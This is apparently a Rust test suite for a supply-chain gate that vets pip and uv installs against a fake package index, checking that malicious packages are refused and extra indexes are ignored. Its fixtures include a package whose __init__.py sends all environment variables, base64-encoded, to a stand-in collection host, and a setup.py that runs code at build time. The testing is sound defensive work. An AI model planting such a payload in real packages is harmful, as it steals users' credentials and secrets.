//! pip and uv.

use std::fs;

use foretaste_fake_registries::{Ask, FakeFile, FakeProject, FakePypi, FakeServer, tar_gz, wheel};

use super::{bad, is_refused, named, program, quoted_sign};
use crate::support::{Home, Run, serving};

/// Why the bad one is refused.
const REASON: &str = "environment";

/// `honest` as a wheel, `acme-corp-util` as a source that must be built, and `acme-corp-kit` as a wheel with the same code in it.
async fn index(home: &Home) -> FakeServer {
    let line = format!("open({}, 'w').close()\n", quoted_sign(home));
    let squat = bad("pypi/acme-corp-util-1.0.3", "setup.py", &line);
    let packed: Vec<(String, &str)> = squat
        .iter()
        .map(|(path, text)| (format!("acme-corp-util-1.0.3/{path}"), text.as_str()))
        .collect();
    let packed: Vec<(&str, &str)> = packed.iter().map(|(p, t)| (p.as_str(), *t)).collect();
    let source = FakeFile::new("acme-corp-util-1.0.3.tar.gz", &tar_gz(&packed));
    let code = "import base64, json, os\nfrom urllib.request import Request, urlopen\n\
        blob = base64.b64encode(json.dumps(dict(os.environ)).encode())\n\
        urlopen(Request('https://collect.example.invalid/c', data=blob))\n";
    let kit = wheel(
        "acme-corp-kit",
        "1.0",
        &[],
        &[("acme_corp_kit/__init__.py", code)],
    );
    let fine = wheel(
        "honest",
        "1.0",
        &[],
        &[("honest/__init__.py", "VALUE = 1\n")],
    );
    FakePypi::new()
        .project(FakeProject::new("honest").file(fine.uploaded("2025-01-01T00:00:00Z")))
        .project(FakeProject::new("acme-corp-util").file(source.uploaded("2025-01-01T00:00:00Z")))
        .project(FakeProject::new("acme-corp-kit").file(kit.uploaded("2025-01-01T00:00:00Z")))
        .start()
        .await
}

/// A home whose clients ask an index.
fn asking(home: Home, index: &FakeServer) -> Home {
    let url = format!("{}/simple/", index.url());
    home.with("PIP_INDEX_URL", &url)
        .with("UV_DEFAULT_INDEX", &url)
}

const PIP: [&str; 7] = [
    "install",
    "--",
    "python3",
    "-m",
    "pip",
    "install",
    "--target=out",
];
const UV: [&str; 8] = [
    "install",
    "--",
    "uv",
    "pip",
    "install",
    "--python=python3",
    "--target=out",
    "-q",
];

fn run(home: &Home, client: &[&str], words: &[&str]) -> Run {
    home.run(&[client, words].concat())
}

fn installed(home: &Home, run: &Run, what: &str) {
    assert_eq!(run.code, 0, "{}{}", run.stdout, run.stderr);
    assert!(
        home.path().join("out").join(what).is_dir(),
        "{}",
        run.stderr
    );
}

#[test]
fn pip_installs_what_is_fine_and_runs_nothing_that_is_not() {
    if program("python3").is_none() {
        return;
    }
    serving(async || {
        let home = Home::new();
        let index = index(&home).await;
        let home = asking(home, &index);
        installed(&home, &run(&home, &PIP, &["honest"]), "honest");
        // pip runs setup.py to learn what a source needs, also when it only pretends
        for words in [&["acme-corp-util"][..], &["--dry-run", "acme-corp-util"]] {
            is_refused(&home, &run(&home, &PIP, words), 1, REASON);
        }
        assert!(named(&home.path().join("out"), "acme").is_empty());
    });
}

#[test]
fn pip_asks_the_gate_alone_however_it_is_told_to_ask_others() {
    if program("python3").is_none() {
        return;
    }
    serving(async || {
        let home = Home::new();
        let (index, other) = (index(&home).await, index(&home).await);
        let home = asking(home, &index);
        let elsewhere = format!("{}/simple/", other.url());
        let words = [
            "--extra-index-url",
            &elsewhere,
            "-f",
            &other.url(),
            "honest",
        ];
        let told = run(&home, &PIP, &words);
        installed(&home, &told, "honest");
        let note = "--extra-index-url, -f left out: only the gate is asked";
        assert!(told.stderr.contains(note), "{}", told.stderr);
        // by files that pip reads
        let named = format!("[global]\nextra-index-url = {elsewhere}\n");
        home.write(".config/pip/pip.conf", &named);
        let words = ["--upgrade", "--force-reinstall", "honest"];
        installed(&home, &run(&home, &PIP, &words), "honest");
        assert!(other.log().is_empty(), "{:?}", other.log());
        // a list can name an index of its own, which is past the gate
        let list = "--index-url https://elsewhere.invalid/simple/\nhonest\n";
        home.write("requirements.txt", list);
        let words = ["--upgrade", "-r", "requirements.txt"];
        let refused = run(&home, &PIP, &words);
        assert_eq!(refused.code, 1, "{}", refused.stderr);
        let told = "a connection past the gate, to elsewhere.invalid";
        assert!(refused.stderr.contains(told), "{}", refused.stderr);
        // and a place instead of a name can be vetted by nobody
        let words = ["git+https://git.example.invalid/x"];
        let refused = run(&home, &PIP, &words);
        assert_eq!(refused.code, 2, "{}", refused.stderr);
        assert!(
            refused.stderr.contains("foretaste audit"),
            "{}",
            refused.stderr
        );
    });
}

#[test]
fn what_pip_and_uv_have_in_their_caches_is_vetted_too() {
    if program("python3").is_none() || program("uv").is_none() {
        return;
    }
    serving(async || {
        let home = Home::new();
        let index = index(&home).await;
        let home = asking(home, &index);
        for client in [&PIP[..], &UV] {
            // without the gate it comes, and stays in the client's cache
            let words = client[3..].iter().map(|word| match *word {
                "--target=out" => "--target=bare",
                word => word,
            });
            let mut bare = std::process::Command::new(client[2]);
            bare.args(words)
                .arg("acme-corp-kit")
                .current_dir(home.path())
                .env("HOME", home.path())
                .env("PIP_INDEX_URL", format!("{}/simple/", index.url()))
                .env("UV_DEFAULT_INDEX", format!("{}/simple/", index.url()));
            let output = bare.output().expect("it starts");
            assert!(output.status.success(), "{output:?}");
            let refused = run(&home, client, &["acme-corp-kit"]);
            is_refused(&home, &refused, 1, REASON);
            assert!(named(&home.path().join("out"), "acme").is_empty());
        }
    });
}

#[test]
fn uv_installs_what_is_fine_and_asks_nobody_else() {
    if program("uv").is_none() {
        return;
    }
    serving(async || {
        let home = Home::new();
        let (index, other) = (index(&home).await, index(&home).await);
        let home = asking(home, &index);
        let elsewhere = format!("{}/simple/", other.url());
        let words = [
            "--index",
            &elsewhere,
            "--extra-index-url",
            &elsewhere,
            "honest",
        ];
        let told = run(&home, &UV, &words);
        installed(&home, &told, "honest");
        assert!(told.stderr.contains("left out"), "{}", told.stderr);
        let settings = format!("[[index]]\nurl = {elsewhere:?}\n");
        home.write("uv.toml", &settings);
        let refused = run(&home, &UV, &["acme-corp-util"]);
        is_refused(&home, &refused, refused.code, REASON);
        assert_ne!(refused.code, 0);
        // what its settings name too is asked by the gate, for the gate to judge
        let by_uv = |ask: &Ask| !ask.header("user-agent").starts_with("foretaste");
        assert!(!other.log().iter().any(by_uv), "{:?}", other.log());
        // a project that names another index of its own
        fs::remove_file(home.path().join("uv.toml")).expect("it was written");
        let project = "[project]\nname = \"app\"\nversion = \"1.0\"\nrequires-python = \">=3.9\"\n\
            dependencies = [\"honest\"]\n[[tool.uv.index]]\nname = \"other\"\nurl = \"https://elsewhere.invalid/simple/\"\n\
            [tool.uv.sources]\nhonest = { index = \"other\" }\n";
        home.write("app/pyproject.toml", project);
        let refused = home.run(&["install", "--", "uv", "--directory=app", "sync", "-q"]);
        assert_ne!(refused.code, 0, "{}", refused.stderr);
        let told = "a connection past the gate, to elsewhere.invalid";
        assert!(refused.stderr.contains(told), "{}", refused.stderr);
    });
}
